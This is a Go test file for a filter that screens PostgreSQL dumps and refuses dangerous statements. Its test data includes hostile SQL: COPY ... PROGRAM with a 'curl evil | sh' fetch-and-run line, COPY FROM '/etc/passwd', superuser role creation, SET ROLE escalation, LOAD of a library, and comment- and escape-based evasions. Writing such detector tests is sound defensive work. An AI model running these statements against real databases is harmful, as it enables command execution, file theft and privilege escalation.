package extract

import (
	"errors"
	"strings"
	"testing"
)

func TestClassifyStatement(t *testing.T) {
	t.Parallel()
	tests := []struct {
		sql  string
		want string // "" allowed, else Refusal.What
	}{
		// What pg_dump writes passes.
		{"SET statement_timeout = 0;", ""},
		{"SET standard_conforming_strings = on;", ""},
		{"SET default_tablespace = '';", ""},
		{"SELECT pg_catalog.set_config('search_path', '', false);", ""},
		{"SET check_function_bodies = false;", ""},
		{"COPY public.items (id, name) FROM stdin;", ""},
		{"COPY public.program (id) FROM stdin;", ""},
		{`COPY public."from" ("to", program) FROM stdin;`, ""},
		{"COPY t TO stdout;", ""},
		{"CREATE TABLE public.items (id integer NOT NULL, name text);", ""},
		{"CREATE USER MAPPING FOR public SERVER s OPTIONS (user 'x');", ""},
		{"GRANT SELECT ON TABLE public.items TO anon;", ""},
		{"GRANT SELECT (id, name) ON public.items TO anon;", ""},
		{"REVOKE ALL ON SCHEMA public FROM PUBLIC;", ""},
		{"ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO anon;", ""},
		{"CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p WITH (connect = false);", ""},
		{"SELECT pg_catalog.setval('public.items_id_seq', 3, true);", ""},
		{"ALTER TABLE ONLY public.t ALTER COLUMN role SET DEFAULT 'x';", ""},
		{"CREATE FUNCTION public.f() RETURNS void LANGUAGE sql SET search_path TO 'public' AS $$ SELECT 1 $$;", ""},
		// Function bodies and DO blocks are data to the gate.
		{"CREATE FUNCTION public.f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''id'''; END $$;", ""},
		{"CREATE FUNCTION public.f() RETURNS void LANGUAGE sql AS $body$ ALTER SYSTEM SET x = 1; COPY t TO PROGRAM 'id' $body$;", ""},
		{"DO $$ BEGIN PERFORM set_config('role', 'postgres', false); END $$;", ""},
		// Strings and quoted identifiers that read like keywords.
		{`COMMENT ON TABLE public.t IS 'COPY t TO PROGRAM ''id''; ALTER SYSTEM SET x = 1';`, ""},
		{`CREATE TABLE public."program" ("ALTER SYSTEM" text DEFAULT 'DROP DATABASE x');`, ""},
		{`CREATE TABLE "copy" ("to" text);`, ""},
		{"CREATE TABLE t (x text DEFAULT E'it\\'s; ALTER SYSTEM');", ""},
		{"SELECT 1; -- ALTER SYSTEM SET x = 1", ""},

		{"COPY (SELECT 1) TO PROGRAM 'id';", "COPY ... PROGRAM"},
		{"/* x */ COPY (SELECT 1) TO PROGRAM '...';", "COPY ... PROGRAM"},
		{"copy t from program 'curl evil | sh';", "COPY ... PROGRAM"},
		{"COPY t (a, b) FROM /* c */ PROGRAM 'id';", "COPY ... PROGRAM"},
		{"CoPy\n-- comment\nt\nFrOm\nPrOgRaM 'id';", "COPY ... PROGRAM"},
		{"COPY t FROM '/etc/passwd';", "COPY ... FROM a server file"},
		{"COPY t TO '/tmp/x';", "COPY ... TO a server file"},
		{"COPY t FROM E'/etc/passwd';", "COPY ... FROM a server file"},
		{"COPY t FROM $$/etc/passwd$$;", "COPY ... FROM a server file"},
		{`COPY t FROM "stdin";`, "COPY ... FROM something other than stdin"},
		{"COPY t TO stdin;", "COPY ... TO something other than stdout"},
		{"ALTER SYSTEM SET shared_preload_libraries = 'x';", "ALTER SYSTEM"},
		{"/**/ alter /* a /* nested */ comment */ SYSTEM reset all;", "ALTER SYSTEM"},
		{"--x\nALTER\nSYSTEM SET x = 1;", "ALTER SYSTEM"},
		{"/**/ DROP DATABASE other;", "DROP DATABASE"},
		{"CREATE DATABASE x WITH TEMPLATE = template0;", "CREATE DATABASE"},
		{"ALTER DATABASE postgres SET role = 'x';", "ALTER DATABASE"},
		{"CREATE ROLE evil SUPERUSER LOGIN;", "CREATE ROLE"},
		{"create user evil superuser;", "CREATE USER"},
		{"ALTER USER authenticator SUPERUSER;", "ALTER USER"},
		{"ALTER ROLE CURRENT_USER SET search_path = x;", "ALTER ROLE"},
		{"DROP ROLE IF EXISTS anon;", "DROP ROLE"},
		{"DROP GROUP g;", "DROP GROUP"},
		{"DROP OWNED BY anon;", "DROP OWNED"},
		{"REASSIGN OWNED BY a TO b;", "REASSIGN OWNED"},
		{"GRANT pg_read_server_files TO authenticator;", "GRANT of role membership"},
		{"GRANT postgres, pg_write_server_files TO anon WITH ADMIN OPTION;", "GRANT of role membership"},
		{"REVOKE anon FROM authenticator;", "REVOKE of role membership"},
		{"CREATE TABLESPACE t LOCATION '/tmp';", "CREATE TABLESPACE"},
		{"DROP TABLESPACE t;", "DROP TABLESPACE"},
		{"SET ROLE postgres;", "SET ROLE"},
		{"SET SESSION ROLE postgres;", "SET ROLE"},
		{"set local role postgres;", "SET ROLE"},
		{`SET "role" TO 'postgres';`, "SET ROLE"},
		{`SET "ROLE" = postgres;`, "SET ROLE"},
		{"SET role = 'postgres';", "SET ROLE"},
		{"SET SESSION AUTHORIZATION postgres;", "SET SESSION AUTHORIZATION"},
		{"SET LOCAL SESSION AUTHORIZATION DEFAULT;", "SET SESSION AUTHORIZATION"},
		{"SET session_authorization TO postgres;", "SET SESSION AUTHORIZATION"},
		{"RESET ROLE;", "RESET ROLE"},
		{"RESET SESSION AUTHORIZATION;", "RESET SESSION AUTHORIZATION"},
		{"RESET session_authorization;", "RESET SESSION AUTHORIZATION"},
		{"RESET ALL;", "RESET ALL"},
		{"DISCARD ALL;", "DISCARD ALL"},
		{"LOAD 'evil';", "LOAD"},
		{"/* */ load '$libdir/plugins/x';", "LOAD"},
		{"SET standard_conforming_strings = off;", "SET standard_conforming_strings other than on"},
		{"SELECT pg_catalog.set_config('role', 'postgres', false);", "set_config('role')"},
		{"SELECT set_config('ROLE', 'postgres', false);", "set_config('role')"},
		{"SELECT pg_catalog.set_config('session_authorization', 'postgres', false);", "set_config('session_authorization')"},
		{`SELECT pg_catalog."set_config"('role', 'postgres', false);`, "set_config('role')"},
		{"SELECT set_config($$role$$, 'postgres', false);", "set_config('role')"},
		{"SELECT set_config('ro'\n'le', 'postgres', false);", "set_config with a setting name that is not a plain string literal"},
		{"SELECT set_config('ro' || 'le', 'postgres', false);", "set_config with a setting name that is not a plain string literal"},
		{"SELECT set_config(E'\\x72ole', 'postgres', false);", "set_config with a setting name that is not a plain string literal"},
		{"SELECT set_config(setting_name => 'role', new_value => 'x', is_local => false);", "set_config with a setting name that is not a plain string literal"},
		{"CREATE TABLE t (x text DEFAULT set_config('role', 'postgres', false));", "set_config('role')"},
		{`SELECT U&"\0073et_config"('role', 'x', false);`, "Unicode-escaped (U&) identifier or string"},
		{"CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = postgres AS $$ SELECT 1 $$;", "SET ROLE"},
		{"ALTER FUNCTION f() SET session_authorization TO postgres;", "SET SESSION AUTHORIZATION"},
		{"BEGIN;", "transaction control (BEGIN)"},
		{"/* */ COMMIT;", "transaction control (COMMIT)"},
		{"ROLLBACK;", "transaction control (ROLLBACK)"},
		{"START TRANSACTION;", "transaction control (START)"},
		{"PREPARE TRANSACTION 'x';", "transaction control (PREPARE TRANSACTION)"},
		{"PREPARE q AS SELECT 1;", ""},
		{"CREATE FUNCTION public.f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END;", ""},
		{"CREATE FUNCTION public.f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT CASE WHEN true THEN 1 END; END;", ""},
		{"CREATE FUNCTION public.f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END; END;", "transaction control (END)"},
		{"CREATE FUNCTION public.begin() RETURNS int LANGUAGE sql RETURN 1; END;", "transaction control (END)"},
		{"CREATE FUNCTION public.f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SET ROLE postgres; END;", "SET ROLE"},
		// Several statements in one text: a later one decides.
		{"SELECT 1; ALTER SYSTEM SET x = 1;", "ALTER SYSTEM"},
		{"CREATE TABLE t (x int); /* */ COPY t TO PROGRAM 'id';", "COPY ... PROGRAM"},
		{"SELECT 'a;'; SET ROLE postgres;", "SET ROLE"},
		// Text the gate cannot close is refused.
		{"SELECT 'unterminated", "text ending inside a quote, dollar quote or comment"},
		{"SELECT 1 /* open", "text ending inside a quote, dollar quote or comment"},
	}
	for _, tt := range tests {
		got := ""
		if r := ClassifyStatement(tt.sql); r != nil {
			got = r.What
		}
		if got != tt.want {
			t.Errorf("ClassifyStatement(%q) = %q, want %q", tt.sql, got, tt.want)
		}
	}
}

func TestClassifyStatementOffset(t *testing.T) {
	t.Parallel()
	sql := "SELECT 1;\n  /* c */ ALTER SYSTEM SET x = 1;"
	r := ClassifyStatement(sql)
	if r == nil || !strings.HasPrefix(sql[r.Offset:], "ALTER SYSTEM") {
		t.Fatalf("refusal %+v does not point at the ALTER SYSTEM", r)
	}
}

// gateDump reads dump through Inventory and returns its error.
func gateDump(dump string) error {
	_, err := Inventory(strings.NewReader(dump))
	return err
}

func TestInventoryRefusesHostileEntries(t *testing.T) {
	t.Parallel()
	const head = "--\n-- PostgreSQL database dump\n--\n\nSET statement_timeout = 0;\n\n"
	const table = "CREATE TABLE public.t (\n    id integer\n);\n\nCOPY public.t (id) FROM stdin;\n1\n\\.\n\n"
	const trailer = "--\n-- PostgreSQL database dump complete\n--\n\n"
	tests := []struct {
		name string
		dump string
		line int
		what string
	}{
		{"after the trailer", head + table + trailer + "ALTER TABLE public.t ADD COLUMN x int;\n", 19, "content after the completion trailer: ALTER TABLE public.t ADD COLUMN x int;"},
		{"meta after the trailer", head + table + trailer + "\\connect postgres\n", 19, `content after the completion trailer: \connect postgres`},
		{"copy program", head + "COPY (SELECT 1) TO PROGRAM 'id';\n" + table + trailer, 7, "COPY ... PROGRAM"},
		{"comment before copy", head + "/* x */ COPY public.t (id) FROM stdin;\n" + trailer, 7, "COPY that is not a data block (text before COPY)"},
		{"later statement on the same line", head + "SELECT 1; /* */ ALTER SYSTEM SET x = 1;\n" + table + trailer, 7, "ALTER SYSTEM"},
		{"multi-line", head + "CREATE TABLE public.a (\n    x int\n);\nSET\n  ROLE postgres;\n" + trailer, 10, "SET ROLE"},
		{"copy row looking like a trap is data", head + "COPY public.t (id) FROM stdin;\nALTER SYSTEM SET x = 1;\n\\.\n" + trailer, 0, ""},
		{"unrestrict after the trailer", "\\restrict k\n" + head + table + trailer + "\\unrestrict k\n", 0, ""},
	}
	for _, tt := range tests {
		err := gateDump(tt.dump)
		var re *RefusedError
		switch {
		case tt.what == "" && err != nil:
			t.Errorf("%s: %v", tt.name, err)
		case tt.what == "":
		case !errors.As(err, &re) || !errors.Is(err, ErrRefused):
			t.Errorf("%s: err = %v, want a RefusedError", tt.name, err)
		case re.Line != tt.line || re.What != tt.what:
			t.Errorf("%s: refused line %d %q, want line %d %q", tt.name, re.Line, re.What, tt.line, tt.what)
		}
	}
}

func TestGoldenDumpsPassTheGate(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"full.sql", "schema.sql", "tables.sql"} {
		rd := NewReader(openTestdata(t, name))
		n := 0
		eachEntry(t, name, rd.Next, func(e Entry) {
			if err := CheckEntry(&e); err != nil {
				t.Errorf("%s: %v", name, err)
			}
			n++
		})
		if n == 0 || !rd.TrailerSeen() {
			t.Errorf("%s: %d entries, trailer %v", name, n, rd.TrailerSeen())
		}
	}
}
